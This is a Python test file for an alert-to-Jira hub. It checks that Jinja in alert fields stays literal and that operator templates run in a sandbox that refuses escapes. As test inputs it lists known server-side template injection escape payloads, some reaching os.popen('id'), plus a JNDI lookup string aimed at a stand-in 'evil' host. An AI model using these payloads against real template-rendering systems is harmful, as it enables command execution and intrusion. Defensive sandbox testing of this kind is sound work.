"""Template injection: alert fields are data, never templates; operator templates run in a sandbox that holds.

The first half sends alerts whose fields are Jinja through the whole hub into the
Jira sandbox (both flavors) and a notifier, and reads back what was stored. The
second half plays an operator (or whoever can edit the config) trying the known
sandbox escapes: each must end in SecurityError or UndefinedError, never in output.
"""

from __future__ import annotations

import re
from typing import ClassVar

import pytest
from jinja2.exceptions import SecurityError, TemplateError, UndefinedError
from sqlalchemy import select

from alertbridge.connectors import NOTIFIERS, load
from alertbridge.connectors.roles import Notifier
from alertbridge.errors import PayloadError
from alertbridge.model import Alert, CaseEvent, SourceInfo
from alertbridge.sandbox.jira import adf as _adf
from alertbridge.sandbox.jira import JiraSandboxSettings, create_app
from alertbridge.store.tables import jobs
from alertbridge.templates import is_true, render

from .conftest import jira_hub, send_and_drain

TITLE = "{{ ''.__class__.__mro__ }} {% for x in range(3) %}loop{% endfor %} {{ 7*7 }} {# hidden #} {{ config }}"
DESCRIPTION = "{% raw %}{{ request }}{% endraw %} {{ lipsum.__globals__['os'].popen('id').read() }} ${jndi:ldap://evil/a} {{ self }}"
HOST = "{{ cycler.__init__.__globals__ }}"


def unescape_wiki(text: str) -> str:
    """Undo jira.markup.escape_wiki, to compare what a Data Center reader sees with what the alert said."""
    return re.sub(r"\\(.)", r"\1", text).replace("&#92;", "\\")


class RecordingNotifier(Notifier):
    """A notifier that keeps what it was asked to send."""

    type = "recording"
    sent: ClassVar[list[tuple[str, str, str]]] = []

    async def notify(self, event: CaseEvent) -> None:
        self.sent.append((event.title, event.kind.value, event.text))

    async def aclose(self) -> None:
        pass


@pytest.fixture
def recording_notifier(monkeypatch):
    monkeypatch.setitem(NOTIFIERS, "recording", f"{__name__}:RecordingNotifier")
    RecordingNotifier.sent = []
    return RecordingNotifier


@pytest.mark.parametrize("flavor", ["cloud", "datacenter"])
async def test_alert_fields_stay_literal_in_tickets_comments_and_messages(tmp_path, flavor, recording_notifier):
    jira_app = create_app(JiraSandboxSettings(seed=7))
    route = {"fields": {"Detection Source": "{{ alert.title }}"}, "labels": ["{{ alert.hosts[0] }}"], "notify": ["chat"]}
    hub = jira_hub(tmp_path, flavor, jira_app, route, notifiers={"chat": {"type": "recording"}})
    try:
        alert = {"id": "a1", "title": TITLE, "description": DESCRIPTION, "hosts": [HOST]}
        outcomes = await send_and_drain(hub, alert, alert | {"id": "a2"})
    finally:
        await hub.aclose()
    assert sorted(outcomes) == ["case_event:done", "comment_repeats:done", "create_ticket:done", "notify:done"]

    (issue,) = jira_app.state.jira.issues.values()
    assert issue.fields["summary"] == f"[MEDIUM] {TITLE}"
    assert issue.fields["customfield_10052"] == TITLE
    assert "{{-cycler.__init__.__globals__-}}" in issue.labels
    description = _adf.to_text(issue.fields["description"])
    comment = _adf.to_text(issue.comments[-1]["body"])
    if flavor == "datacenter":
        description, comment = unescape_wiki(description), unescape_wiki(comment)
    assert description.startswith(DESCRIPTION + "\n")
    assert f"Hosts: {HOST}" in description
    assert f"Latest: {TITLE} on {HOST}" in comment
    # The comment's first line is the hub's own (with a clock time that may hold "49"): check the alert's text.
    for text in (issue.fields["summary"], description, comment.split("\n", 1)[1]):
        assert "49" not in text and "looploop" not in text and "<class" not in text and "uid=" not in text
    assert recording_notifier.sent == [(TITLE, "opened", DESCRIPTION)]  # the message template renders the description as data


# --- operator templates: the sandbox holds --------------------------------------------------------

ESCAPES = {
    "mro subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "for over subclasses": "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "cycler globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner globals": "{{ joiner.__init__.__globals__ }}",
    "self": "{{ self.__init__.__globals__ }}",
    "self module": "{{ self._TemplateReference__context }}",
    "request (Flask)": "{{ request.application.__globals__.__builtins__ }}",
    "config (Flask)": "{{ config.items() }}",
    "lipsum globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "lipsum func_globals": "{{ lipsum.func_globals }}",
    "lipsum code": "{{ lipsum.__code__ }}",
    "namespace class": "{{ namespace.__init__.__globals__ }}",
    "namespace instance": "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}",
    "namespace via attr": "{% set ns = namespace() %}{{ ns|attr('__class__') }}",
    "type mro": "{{ dict.mro() }}",
    "range mro": "{{ range.mro() }}",
    "alert class": "{{ alert.__class__.__mro__ }}",
    "alert dict": "{{ alert.source.__dict__ }}",
    "alert init globals": "{{ alert.__init__.__globals__ }}",
    "bound method func": "{{ alert.to_ocsf.__func__.__globals__ }}",
    "bound method self": "{{ alert.model_copy.__self__ }}",
    "attr filter": "{{ alert|attr('__class__') }}",
    "attr filter mro": "{{ (alert|attr('__class__'))|attr('mro') }}",
    "format attribute": "{{ '{0.__class__}'.format(alert) }}",
    "format globals": "{{ '{0.__init__.__globals__}'.format(alert) }}",
    "format_map": "{{ '{a.__class__}'.format_map({'a': alert}) }}",
    "alert title as format": "{{ alert.title.format(alert) }}",
    "percent format dunder": "{{ '%s'.__mod__(alert) }}",
    "mutate raw": "{{ alert.raw.update({'title': 'x'}) }}",
    "mutate list": "{{ alert.labels.append('x') }}",
    "getitem dunder": "{{ alert['__class__'] }}",
}


def sample_alert(title: str = "{0.__class__.__mro__}") -> Alert:
    return Alert(source=SourceInfo(name="s", type="generic", product="p", vendor="v"), vendor_id="1", title=title, raw={"a": 1})


@pytest.mark.parametrize("template", ESCAPES.values(), ids=ESCAPES.keys())
def test_operator_template_escapes_are_refused(template):
    alert = sample_alert()
    with pytest.raises((SecurityError, UndefinedError)) as refused:
        render(template, {"alert": alert, "case": {"id": 1}})
    assert "<class" not in str(refused.value) and "<function" not in str(refused.value)
    assert alert.raw == {"a": 1} and alert.labels == []


@pytest.mark.parametrize("template", ["alert.__class__", "alert.__class__.__mro__", "dict.mro()", "alert.raw.clear()", "config"])
def test_match_when_expressions_are_sandboxed_too(template):
    # compile_expression turns an undefined result into None, so a bare refused attribute reads as false;
    # anything that goes on to use it raises. Either way nothing is reached.
    alert = sample_alert()
    try:
        assert is_true(template, {"alert": alert}) is False
    except (SecurityError, UndefinedError):
        pass
    assert alert.raw == {"a": 1}


async def test_an_escaping_route_template_dead_letters_the_create_and_files_nothing(tmp_path):
    # Tickets are rendered when the create runs, so the refusal dead-letters the create (the alert is stored):
    # fixing the route and replaying files the ticket.
    jira_app = create_app(JiraSandboxSettings(seed=7))
    hub = jira_hub(tmp_path, "cloud", jira_app, {"summary": ESCAPES["cycler globals"]})
    try:
        assert await send_and_drain(hub, {"id": "1", "title": "t"}) == ["create_ticket:dead"]
        async with hub.store.read() as conn:
            (reason,) = (await conn.execute(select(jobs.c.last_error).where(jobs.c.state == "dead"))).scalars()
    finally:
        await hub.aclose()
    assert reason == "route 'soc': a ticket template fails for case 1: access to attribute '__init__' of 'type' object is unsafe."
    assert not jira_app.state.jira.issues


@pytest.mark.parametrize("expression", [
    "{{ item.__class__.__mro__ }}", "{{ item.title.format(item) }}", "{{ '{host}'.format_map(item) }}", "{{ item.tags.append(1) }}",
])  # fmt: skip
def test_generic_field_templates_are_sandboxed_and_fail_as_payload_errors(expression):
    source_class = load({"generic": "alertbridge.connectors.generic:GenericParser"}, "generic")
    source = source_class("gen", source_class.Config.model_validate({"type": "generic", "fields": {"title": expression}}))
    with pytest.raises(PayloadError) as refused:
        source.parse({"title": "{0.__class__.__init__.__globals__}", "tags": []})
    assert isinstance(refused.value.__cause__, TemplateError | LookupError)
